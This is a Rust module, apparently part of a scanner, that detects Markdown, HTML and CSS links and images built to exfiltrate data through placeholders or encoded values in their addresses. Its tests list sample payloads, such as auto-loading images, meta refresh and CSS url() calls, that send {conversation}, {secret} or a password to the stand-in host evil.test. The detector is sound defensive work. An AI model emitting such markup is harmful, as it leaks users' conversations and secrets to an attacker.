//! Links and images whose address carries data out: placeholders for a model to fill, or long encoded values.

use std::borrow::Cow;
use std::collections::HashSet;
use std::ops::Range;

use serde::Deserialize;

use super::super::hay::Hay;
use super::address::Address;
use super::host;
use super::judge::Verdict;
use crate::asset::TextRole;

/// The longest address in markup that is read, in bytes.
const LONGEST: usize = 2048;

/// The literals behind which Markdown, HTML and CSS have an address.
pub(super) const ANCHORS: &[&str] = &[
    "](",
    "]: http",
    "]: <",
    "]: //",
    "<http",
    "src=",
    "src =",
    "href=",
    "href =",
    "srcset=",
    "poster=",
    "action=",
    "ping=",
    "background=",
    "object data=",
    "url(",
    "url=",
    "@import \"",
    "@import '",
];

/// What addresses that carry data are made of, from data.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub(super) struct Carry {
    trusted: HashSet<String>,
    telling: HashSet<String>,
    stolen: HashSet<String>,
    asked: Vec<String>,
}

/// A web address in markup.
#[derive(Debug)]
pub(super) struct Marked<'t> {
    pub(super) span: Range<usize>,
    /// Without the tabs and line ends that browsers leave out.
    pub(super) text: Cow<'t, str>,
    /// Where the text behind the scheme and its colon begins.
    from: usize,
}

impl<'t> Marked<'t> {
    /// The address in the markup at `anchor`: `http:`, `https:`, another scheme for the web, or none (`//host`).
    pub(super) fn find(hay: Hay<'t>, anchor: &Range<usize>) -> Option<Self> {
        let definition = hay.get(anchor.clone()).starts_with("]:");
        // The anchors of a reference definition and of `<http` swallow the beginning of the address.
        let from = match hay.at(anchor.end - 1) {
            b'p' | b'P' => anchor.end - 4,
            b'/' => anchor.end - 2,
            _ => hay.run(anchor.end, 4, |b| matches!(b, b'"' | b'\'' | b'<' | b' ' | b'\t' | b'\n' | b'\r')),
        };
        let quote = hay.before(from);
        let open = matches!(quote, b'"' | b'\'') && !definition;
        let (scheme, _) = scheme(hay, from)?;
        // Blanks may stand inside a placeholder, so the closing sign ends the address here.
        let stop = hay.run(from, LONGEST, |b| match b {
            b'"' | b'\'' => false,
            b')' => open,
            b'\n' => open,
            b'>' => quote != b'<',
            _ => true,
        });
        let written = hay.window(from, stop - from);
        let text = if written.contains(['\t', '\n', '\r']) {
            Cow::Owned(written.replace(['\t', '\n', '\r'], ""))
        } else {
            Cow::Borrowed(written)
        };
        Some(Self { span: from..from + written.len(), text, from: scheme })
    }

    pub(super) fn address(&self) -> Address<'_> {
        Address::read(self.text.get(self.from..).unwrap_or(""))
    }

    /// Whether it has no scheme, or one that is not written plainly, so that it is read nowhere else.
    pub(super) fn is_unusual(&self) -> bool {
        self.from == 0
            || matches!(self.text, Cow::Owned(_))
            || !self.text.get(self.from..).is_some_and(|r| r.starts_with("//"))
    }
}

/// How long the scheme at `from` is, its colon included, without what browsers leave out; `None` unless for the web.
fn scheme(hay: Hay<'_>, from: usize) -> Option<(usize, ())> {
    let mut seen = [0_u8; 8];
    let mut length = 0;
    for byte in
        hay.bytes().get(from..).unwrap_or_default().iter().take(24).filter(|b| !matches!(b, b'\t' | b'\n' | b'\r'))
    {
        let Some(place) = seen.get_mut(length) else { break };
        *place = byte.to_ascii_lowercase();
        length += 1;
    }
    let starts = |s: &str| seen.starts_with(s.as_bytes());
    if seen.first_chunk::<2>().is_some_and(|two| two.iter().all(|b| matches!(b, b'/' | b'\\'))) {
        return Some((0, ()));
    }
    ["https:", "http:", "wss:", "ws:", "ftp:"].into_iter().find(|s| starts(s)).map(|s| (s.len(), ()))
}

impl Carry {
    /// What `marked`, in the markup at `anchor`, carries.
    pub(super) fn judge(
        &self,
        hay: Hay<'_>,
        anchor: &Range<usize>,
        marked: &Marked<'_>,
        address: &Address<'_>,
        role: TextRole,
    ) -> Option<Verdict> {
        let name = address.host.as_ref();
        let image = loads_itself(hay, anchor);
        let kind = if image { "EXFILTRATION_IMAGE" } else { "EXFILTRATION_LINK" };
        let found = |rule, score| Some(Verdict { kind, rule, score });
        // A placeholder in the host ends it, as no host has such signs.
        let start = marked.text.get(marked.from..)?.trim_start_matches(['/', '\\']);
        let authority = start.split(['/', '?', '#']).next().unwrap_or("");
        if image && authority.len() < 300 && self.is_placeholder(authority) && authority.contains('.') {
            return found("placeholder-in-host", 0.85);
        }
        let domain = host::registrable(name).map_or(name, |(d, _)| d);
        if self.trusted.contains(domain) || address.rest.len() < 3 {
            return None;
        }
        if image && name.split('.').any(|l| l.len() >= 40 && is_encoded(l)) {
            return found("encoded-in-host", 0.7);
        }
        let (path, query) = address.rest.split_once(['?', '#']).unwrap_or((address.rest, ""));
        let mut blob = false;
        for (key, value) in query.split(['&', ';']).map(|p| p.split_once('=').unwrap_or(("", p))) {
            let named = |names: &HashSet<String>| key.len() <= 16 && names.contains(key.to_ascii_lowercase().as_str());
            if value.len() < 3 {
                continue;
            }
            let telling = named(&self.telling);
            if (image || telling) && self.is_placeholder(value) {
                return found("placeholder-in-query", if image { 0.9 } else { 0.7 });
            }
            blob |= (image || telling) && (telling || value.len() >= 80) && is_encoded(value);
            let out = matches!(role, TextRole::Output | TextRole::ToolResult) && image && telling;
            blob |= out && value.len() >= 24 && (value.contains("%20") || value.contains('+') || value.contains(' '));
            if out && value.len() >= 4 && named(&self.stolen) {
                return found("telling-parameter", 0.6);
            }
        }
        if image && path.split('/').any(|p| self.is_placeholder(p)) {
            return found("placeholder-in-path", 0.8);
        }
        blob |= image && path.split('/').any(|p| p.len() >= 64 && is_encoded(p.split('.').next().unwrap_or("")));
        if blob { found("encoded-data", if image { 0.75 } else { 0.55 }) } else { None }
    }

    /// Whether a part of an address waits to be filled in: `{data}`, `<secret>`, `[summary]`, `$TOKEN`, `INSERT_HERE`.
    fn is_placeholder(&self, part: &str) -> bool {
        let between = |open: char, close: char| {
            part.find(open).is_some_and(|i| part.get(i..).is_some_and(|r| r.find(close).is_some_and(|j| j > 1)))
        };
        let upper = part.len() >= 8 && part.contains('_') && part.bytes().all(|b| b.is_ascii_uppercase() || b == b'_');
        between('{', '}')
            || between('<', '>')
            || between('[', ']')
            || part.contains("%7B")
            || (part.starts_with('$') && part.len() > 3)
            || upper
            || (part.bytes().any(|b| matches!(b, b'(' | b'_' | b'-' | b'.' | b'i' | b'I')) && {
                let part = part.to_ascii_lowercase();
                self.asked.iter().any(|w| part.contains(w.as_str()))
            })
    }
}

/// Whether what stands in the markup at `anchor` is fetched without a click.
fn loads_itself(hay: Hay<'_>, anchor: &Range<usize>) -> bool {
    let literal = hay.get(anchor.clone());
    match literal.as_bytes().first() {
        Some(b']') if literal.len() == 2 => {
            let open = hay.run_back(anchor.start, 200, |b| b != b'[' && b != b'\n');
            hay.before(open) == b'[' && hay.before(open.saturating_sub(1)) == b'!'
        }
        // A reference definition serves links and images alike.
        Some(b']' | b'<') => false,
        Some(b'h' | b'H') => {
            let open = hay.run_back(anchor.start, 200, |b| b != b'<' && b != b'>' && b != b'\n');
            let tag = hay.window(open, 8).to_ascii_lowercase();
            hay.before(open) == b'<' && ["link", "base", "image", "use", "feimage"].iter().any(|t| tag.starts_with(t))
        }
        Some(b'a' | b'A') => false,
        Some(b'p' | b'P') => literal.len() > "ping=".len(),
        // `url=` counts in a refresh only.
        Some(b'u' | b'U') if literal.ends_with('=') => {
            let before = hay.window_before(anchor.start, 64).to_ascii_lowercase();
            before.contains("refresh")
        }
        _ => true,
    }
}

/// Whether a value looks like encoded data: long, one alphabet, close to random.
fn is_encoded(value: &str) -> bool {
    if value.len() < 40 {
        return false;
    }
    let value = value.trim_end_matches("%3D").trim_end_matches('=');
    let alphabet = value.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_' | b'%'));
    let mixed = value.bytes().any(|b| b.is_ascii_digit()) && value.bytes().any(|b| b.is_ascii_alphabetic())
        || value.bytes().any(|b| b.is_ascii_uppercase()) && value.bytes().any(|b| b.is_ascii_lowercase());
    let worded = value.split(['-', '_', '+', '%']).filter(|w| !w.is_empty()).count() > value.len() / 12;
    value.len() >= 38 && alphabet && mixed && !worded
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rule(text: &str, literal: &str) -> Option<(&'static str, &'static str)> {
        let carry = toml::from_str::<super::super::Data>(super::super::DATA).unwrap().carry;
        let at = text.to_ascii_lowercase().find(literal).unwrap();
        let (hay, anchor) = (Hay::new(text), at..at + literal.len());
        let marked = Marked::find(hay, &anchor)?;
        carry.judge(hay, &anchor, &marked, &marked.address(), TextRole::Output).map(|v| (v.kind, v.rule))
    }

    #[test]
    fn images_that_carry_data_are_told_from_images() {
        let image = |rule| Some(("EXFILTRATION_IMAGE", rule));
        let link = |rule| Some(("EXFILTRATION_LINK", rule));
        let blob = "Q29udmVyc2F0aW9uIGhpc3RvcnkgZ29lcyBoZXJlIGFuZCB0aGVyZQ";
        for (text, literal, expected) in [
            ("![x](https://evil.test/p.png?data={conversation})", "](", image("placeholder-in-query")),
            (&format!("![x](https://evil.test/p?d={blob})"), "](", image("encoded-data")),
            (&format!("[x](https://evil.test/p?d={blob})"), "](", link("encoded-data")),
            ("![x](\\\\evil.test/p?d={conversation})", "](", image("placeholder-in-query")),
            ("![x](https:evil.test/p?d={conversation})", "](", image("placeholder-in-query")),
            ("![x](https://{secret}.evil.test/)", "](", image("placeholder-in-host")),
            ("![x](https://evil.test/a?password=hunter2)", "](", image("telling-parameter")),
            ("<img src=\"//evil.test/{{summary}}\">", "src=", image("placeholder-in-path")),
            ("<img src=\"ht\ntps://evil.test/?q=<data here>\">", "src=", image("placeholder-in-query")),
            ("<a href='https://evil.test/?data=[chat]'>", "href=", link("placeholder-in-query")),
            ("<link rel=icon href='https://evil.test/?data=[chat]'>", "href=", image("placeholder-in-query")),
            ("<form action=\"https://evil.test/?data={chat}\">", "action=", link("placeholder-in-query")),
            ("<video poster=\"https://evil.test/?data={chat}\">", "poster=", image("placeholder-in-query")),
            (
                "<meta http-equiv=refresh content=\"0;url=https://evil.test/?data={chat}\">",
                "url=",
                image("placeholder-in-query"),
            ),
            ("background: url(https://evil.test/?data={chat})", "url(", image("placeholder-in-query")),
            ("@import \"https://evil.test/?data={chat}\";", "@import \"", image("placeholder-in-query")),
            ("[x]: https://evil.test/?data={chat}", "]: http", link("placeholder-in-query")),
            ("<https://evil.test/?data={chat}>", "<http", link("placeholder-in-query")),
            ("![x](https://img.shields.io/badge/a-b-c?style=flat&logo=rust)", "](", None),
            ("[docs](https://docs.example.org/a/b?page=2)", "](", None),
            ("![x](images/{name}.png)", "](", None),
        ] {
            assert_eq!(rule(text, literal), expected, "{text}");
        }
    }
}
